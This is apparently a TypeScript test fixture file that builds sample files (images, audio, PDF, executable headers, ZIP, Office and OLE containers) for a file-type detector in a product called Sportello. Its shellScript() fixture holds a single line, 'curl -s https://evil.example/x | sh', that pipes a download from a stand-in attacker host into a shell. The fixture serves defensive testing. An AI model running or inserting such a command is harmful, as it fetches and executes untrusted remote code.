/**
 * Small files of every type Sportello sends, and disguised ones, built here byte by byte from
 * their formats' specifications (magic numbers, MP4 boxes, Ogg pages, ZIP and OLE compound file
 * structures) so the tests own their inputs.
 */
import crypto from 'node:crypto';
import zlib from 'node:zlib';

const latin1 = (text: string) => Buffer.from(text, 'latin1');
const u16le = (value: number) => {
  const bytes = Buffer.alloc(2);
  bytes.writeUInt16LE(value);
  return bytes;
};
const u32le = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value >>> 0);
  return bytes;
};
const u32be = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
/** Padding so each sample is a plausible file, not just its first bytes. */
const filler = (length = 256) => crypto.randomBytes(length);

/** A valid 1×1 PNG. */
export const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');

export function jpeg(size = 600): Buffer {
  const head = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), latin1('JFIF\0'), Buffer.from([1, 1, 0, 0, 1, 0, 1, 0, 0])]);
  return Buffer.concat([head, filler(Math.max(0, size - head.length - 2)), Buffer.from([0xff, 0xd9])]);
}

/** A WebP: a plain VP8 one, or the extended form (VP8X) with its animation flag. */
export function webp(options: { animated?: boolean; size?: number } = {}): Buffer {
  const chunk =
    options.animated === true
      ? Buffer.concat([latin1('VP8X'), u32le(10), Buffer.from([0x02, 0, 0, 0, 0, 0, 0, 0, 0, 0])])
      : Buffer.concat([latin1('VP8 '), u32le(10), Buffer.from([0x30, 0x01, 0x00, 0x9d, 0x01, 0x2a, 1, 0, 1, 0])]);
  const body = Buffer.concat([latin1('WEBP'), chunk, filler(Math.max(0, (options.size ?? 300) - 12 - chunk.length))]);
  return Buffer.concat([latin1('RIFF'), u32le(body.length), body]);
}

/** An ISO base media file (MP4, 3GP, M4A) with this major brand. */
export function isoMedia(brand: string): Buffer {
  const body = Buffer.concat([latin1(brand), u32be(0x200), latin1(brand), latin1('mp41')]);
  return Buffer.concat([u32be(8 + body.length), latin1('ftyp'), body, u32be(8 + 64), latin1('free'), filler(64)]);
}

export function mp3(): Buffer {
  const frame = Buffer.concat([Buffer.from([0xff, 0xfb, 0x90, 0x64]), Buffer.alloc(413)]);
  return Buffer.concat([frame, frame, frame]);
}

export function adtsAac(): Buffer {
  const frame = Buffer.concat([Buffer.from([0xff, 0xf1, 0x50, 0x80, 0x02, 0x1f, 0xfc]), Buffer.alloc(9)]);
  return Buffer.concat([frame, frame, frame]);
}

export function amr(): Buffer {
  return Buffer.concat([latin1('#!AMR\n'), filler(200)]);
}

/** The first Ogg page of an Opus (voice note) or Vorbis stream. */
export function ogg(codec: 'opus' | 'vorbis'): Buffer {
  const header =
    codec === 'opus'
      ? Buffer.concat([latin1('OpusHead'), Buffer.from([1, 1, 0x38, 1, 0x80, 0xbb, 0, 0, 0, 0, 0])])
      : Buffer.concat([Buffer.from([1]), latin1('vorbis'), Buffer.alloc(23)]);
  const page = Buffer.concat([
    latin1('OggS'),
    Buffer.from([0, 2]),
    Buffer.alloc(8),
    u32le(1),
    u32le(0),
    Buffer.alloc(4),
    Buffer.from([1, header.length]),
    header,
  ]);
  return Buffer.concat([page, filler(200)]);
}

export function pdf(): Buffer {
  return Buffer.concat([latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n'), filler(200), latin1('\n%%EOF\n')]);
}

/** Programs: a Windows executable, a Linux one, a macOS one. */
export const programs = {
  windows: () => Buffer.concat([latin1('MZ'), Buffer.alloc(58), u32le(64), latin1('PE\0\0'), filler(300)]),
  linux: () => Buffer.concat([Buffer.from([0x7f]), latin1('ELF'), Buffer.from([2, 1, 1, 0]), Buffer.alloc(8), u16le(2), u16le(0x3e), filler(300)]),
  macos: () => Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0, 0, 0x01]), filler(300)]),
};

export function shellScript(): Buffer {
  return latin1('#!/bin/sh\ncurl -s https://evil.example/x | sh\n');
}

export function windows1252Text(): Buffer {
  return Buffer.from('Gentile cliente, la fattura è allegata. Perché? Così.\r\n', 'latin1');
}

export function utf16Text(): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Ciao, è tutto a posto.\r\n', 'utf16le')]);
}

/** A ZIP archive with its entries stored (not compressed). */
export function zip(entries: Record<string, string | Buffer>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of Object.entries(entries)) {
    const data = typeof content === 'string' ? Buffer.from(content, 'utf8') : content;
    const fileName = Buffer.from(name, 'utf8');
    const crc = zlib.crc32(data);
    const common = Buffer.concat([
      u16le(20),
      u16le(0),
      u16le(0),
      u16le(0),
      u16le(0x21),
      u32le(crc),
      u32le(data.length),
      u32le(data.length),
      u16le(fileName.length),
      u16le(0),
    ]);
    const local = Buffer.concat([u32le(0x04034b50), common, fileName, data]);
    centrals.push(Buffer.concat([u32le(0x02014b50), u16le(20), common, u16le(0), u16le(0), u16le(0), u32le(0), u32le(offset), fileName]));
    locals.push(local);
    offset += local.length;
  }
  const central = Buffer.concat(centrals);
  const end = Buffer.concat([
    u32le(0x06054b50),
    u16le(0),
    u16le(0),
    u16le(centrals.length),
    u16le(centrals.length),
    u32le(central.length),
    u32le(offset),
    u16le(0),
  ]);
  return Buffer.concat([...locals, central, end]);
}

const OOXML_MAIN = {
  docx: ['word/document.xml', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'],
  docm: ['word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'],
  xlsx: ['xl/workbook.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'],
  pptx: ['ppt/presentation.xml', 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml'],
} as const;

/** An Office Open XML file: a ZIP whose [Content_Types].xml names its main part. */
export function ooxml(type: keyof typeof OOXML_MAIN): Buffer {
  const [part, contentType] = OOXML_MAIN[type];
  return zip({
    '[Content_Types].xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${part}" ContentType="${contentType}"/></Types>`,
    [part]: '<?xml version="1.0" encoding="UTF-8"?><root/>',
  });
}

/** Root storage class ids (MS-CFB stores a GUID's first three fields little-endian). */
export const CLASS_IDS = { word: '00020906-0000-0000-C000-000000000046', installer: '000C1084-0000-0000-C000-000000000046' };

function classIdBytes(classId: string): Buffer {
  const [a = '', b = '', c = '', d = '', e = ''] = classId.split('-');
  return Buffer.concat([u32le(parseInt(a, 16)), u16le(parseInt(b, 16)), u16le(parseInt(c, 16)), Buffer.from(d + e, 'hex')]);
}

/**
 * An OLE compound file (MS-CFB, version 3, 512-byte sectors) whose directory holds a root
 * storage with `classId` and one empty stream per name: the container of .doc, .xls, .ppt, .msi.
 */
export function compoundFile(classId: string, streams: readonly string[]): Buffer {
  const SECTOR = 512;
  const FREE = 0xffffffff;
  const END = 0xfffffffe;
  const entries = [{ name: 'Root Entry', type: 5 }, ...streams.map((name) => ({ name, type: 2 }))];
  const directorySectors = Math.ceil(entries.length / 4);
  const header = Buffer.alloc(SECTOR);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header, 0);
  header.writeUInt16LE(0x3e, 0x18);
  header.writeUInt16LE(3, 0x1a);
  header.writeUInt16LE(0xfffe, 0x1c);
  header.writeUInt16LE(9, 0x1e);
  header.writeUInt16LE(6, 0x20);
  header.writeUInt32LE(1, 0x2c);
  header.writeUInt32LE(1, 0x30);
  header.writeUInt32LE(4096, 0x38);
  header.writeUInt32LE(END, 0x3c);
  header.writeUInt32LE(END, 0x44);
  for (let i = 0; i < 109; i += 1) header.writeUInt32LE(i === 0 ? 0 : FREE, 0x4c + i * 4);
  const fat = Buffer.alloc(SECTOR, 0xff);
  fat.writeUInt32LE(0xfffffffd, 0);
  for (let i = 0; i < directorySectors; i += 1) fat.writeUInt32LE(i === directorySectors - 1 ? END : i + 2, (i + 1) * 4);
  const directory = Buffer.alloc(directorySectors * SECTOR);
  entries.forEach((entry, index) => {
    const at = index * 128;
    const name = Buffer.from(`${entry.name}\0`, 'utf16le');
    name.copy(directory, at);
    directory.writeUInt16LE(name.length, at + 0x40);
    directory.writeUInt8(entry.type, at + 0x42);
    directory.writeUInt32LE(FREE, at + 0x44);
    directory.writeUInt32LE(FREE, at + 0x48);
    directory.writeUInt32LE(index === 0 && entries.length > 1 ? 1 : FREE, at + 0x4c);
    if (index === 0) classIdBytes(classId).copy(directory, at + 0x50);
    directory.writeUInt32LE(END, at + 0x74);
  });
  return Buffer.concat([header, fat, directory]);
}
